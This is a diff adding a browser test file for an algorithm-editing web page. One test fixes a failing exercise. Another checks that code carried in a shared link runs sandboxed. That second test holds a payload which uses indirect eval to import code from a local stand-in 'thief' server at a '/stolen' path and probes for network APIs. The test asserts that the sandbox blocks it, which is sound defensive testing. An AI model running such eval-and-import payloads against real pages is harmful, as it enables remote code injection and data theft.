@@ -1,0 +1,79 @@
+import { once } from 'node:events'
+import { readFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { deflateRawSync } from 'node:zlib'
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
+import { type Page as Served, servePage } from '../../../cli/src/page/page-server.ts'
+import { type Lab, obstacle, openLab } from './browser.ts'
+
+const why = obstacle()
+const RIGHT = new URL('../../../algorithms/src/permission/central-coordinator.ts', import.meta.url)
+
+/** A text as an address carries it. */
+const carried = (text: string) => `z${deflateRawSync(JSON.stringify([text])).toString('base64url')}`
+
+describe.runIf(why === null)(`the room to write in${why === null ? '' : ` (left out: ${why})`}`, () => {
+  let lab: Lab
+  let served: Served
+  beforeAll(async () => {
+    lab = await openLab()
+    // Under the policy that a mesh's page has.
+    const view = () => ({}) as never
+    const address = { host: '127.0.0.1', port: 0 }
+    served = await servePage({ address, view, act: () => null, recordingOf: () => [] })
+  })
+  afterEach(() => lab.closePages())
+  afterAll(async () => {
+    expect(lab.complaints).toEqual([])
+    await lab.close()
+    await served.close()
+  })
+  const at = (fragment: string) => served.url.replace('#/live', fragment)
+
+  test('a broken rule is found, its run opens in the theatre, and the mended text passes', async () => {
+    const page = await lab.open(at('#/write?from=exercise:the-desk'))
+    await page.getByRole('heading', { name: '✗ A property fails' }).waitFor()
+    await page.getByRole('link', { name: 'Watch it in the theatre' }).click()
+    await page.getByText('Nodes 0, 1 are inside together').first().waitFor()
+    expect(await page.locator('.panel').innerText()).toContain('desk')
+    await page.goBack()
+    await page.locator('.cm-content').click()
+    await page.keyboard.press('Control+A')
+    await page.keyboard.insertText(readFileSync(RIGHT, 'utf8'))
+    await page.getByRole('heading', { name: '✓ Everything holds' }).waitFor()
+    await page.getByText('World 2 of 2 of the exercise').waitFor()
+    // Keys of the page are letters here.
+    await page.keyboard.type('export cost?')
+    expect(await page.getByRole('dialog').count()).toBe(0)
+    await page.getByText(/^Line \d+: Unexpected token/).waitFor()
+  })
+
+  test.each([
+    ['a plain web server', (fragment: string) => fragment],
+    ['the page of a mesh', at],
+  ])('a text of a link waits for the visitor, and reaches nothing: %s', async (_, from) => {
+    const reached: string[] = []
+    const thief = createServer(({ url = '' }, response) => {
+      reached.push(url)
+      response.setHeader('access-control-allow-origin', '*')
+      response.setHeader('content-type', 'text/javascript')
+      response.end()
+    }).listen(0, '127.0.0.1')
+    await once(thief, 'listening')
+    const { port } = thief.address() as AddressInfo
+    const text = `const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'caches', 'indexedDB', 'Worker']
+;(0, eval)('import("http://127.0.0.1:${port}/stolen").then(() => console.error("open"), () => console.error("shut"))')
+throw new Error('reached ' + names.filter((name) => name in self).length + ' from ' + self.origin)`
+    const page = await lab.open(from(`#/write?text=${carried(text)}`))
+    await page.getByRole('heading', { name: 'This link carries an algorithm. Run it?' }).waitFor()
+    await page.getByText('throw new Error').waitFor()
+    expect(await page.locator('iframe').count()).toBe(0)
+    await page.getByRole('button', { name: 'Run it' }).click()
+    await page.getByText('Line 3: Error: reached 0 from null').waitFor()
+    await expect.poll(() => lab.complaints.splice(0)).toEqual(['shut'])
+    expect(reached).toEqual([])
+    thief.close()
+    expect(new URL(page.url()).hash).toBe('#/write?from=link')
+  })
+})
